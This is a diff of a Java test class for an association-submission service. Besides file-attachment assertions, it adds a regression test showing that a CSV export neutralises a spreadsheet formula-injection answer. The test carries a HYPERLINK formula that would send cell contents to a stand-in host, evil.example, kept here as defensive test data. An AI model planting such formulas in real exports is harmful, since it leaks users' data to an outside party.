@@ -184,12 +184,13 @@ class ContributionServiceTest {
         submissions.saveDraft(c.callId(), Map.of(0, "Besoins", 1, "12"));
         SubmissionView withFile = submissions.attach(c.callId(), 4, fr.ctg.document.TestFiles.file("Bilan d’activité 2025.pdf",
                 fr.ctg.document.TestFiles.pdf("bilan Familles rurales")));
-        assertThat(SubmissionService.display(withFile.answers().get(4))).isEqualTo("Bilan d’activité 2025.pdf");
+        assertThat(withFile.answers().get(4)).isEqualTo("Bilan d’activité 2025.pdf");
+        assertThat(withFile.files()).containsOnlyKeys(4);
         submissions.saveDraft(c.callId(), Map.of(0, "Besoins précisés", 1, "12"));
         assertThat(submissions.mine(c.callId()).answers()).as("typing elsewhere keeps the file").containsKey(4);
         submissions.submit(c.callId());
         assertThat(GreenMailUtil.getBody(lastMailTo(marie))).contains("Bilan d");
-        long documentId = SubmissionService.documentOf(submissions.mine(c.callId()).answers().get(4));
+        long documentId = submissions.mine(c.callId()).files().get(4);
         login.as(karim);
         assertThatThrownBy(() -> documentsService.get(documentId)).isInstanceOf(fr.ctg.base.NotFoundException.class);
         login.as(c.user("referent"));
@@ -219,5 +220,20 @@ class ContributionServiceTest {
     /** Accepts an invitation with a new account, as the invited person does on the link's page. */
     String accept(String token, String name) {
         return TestLogin.chose(invitations.acceptNew(token, name, TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD));
+    }
+
+    /** Hole 2 of the security review: an association's answer typed as a formula ran in the referents' spreadsheet. */
+    @Test
+    void csvFormulaInjectionTypedByAnAssociationIsNeutralisedInTheExport() throws Exception {
+        String address = c.w().prefix() + "-eve@asso.test";
+        accept(invite(c.familles(), address), "Ève Formule");
+        login.as(address);
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")";
+        submissions.saveDraft(c.callId(), Map.of(0, formula, 1, "12", 3, "oui"));
+        submissions.submit(c.callId());
+        login.as(c.user("referent"));
+        String csv = new String(review.csv(c.callId()), java.nio.charset.StandardCharsets.UTF_8);
+        assertThat(csv).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";")
+                .doesNotContain(";\"=HYPERLINK");
     }
 }
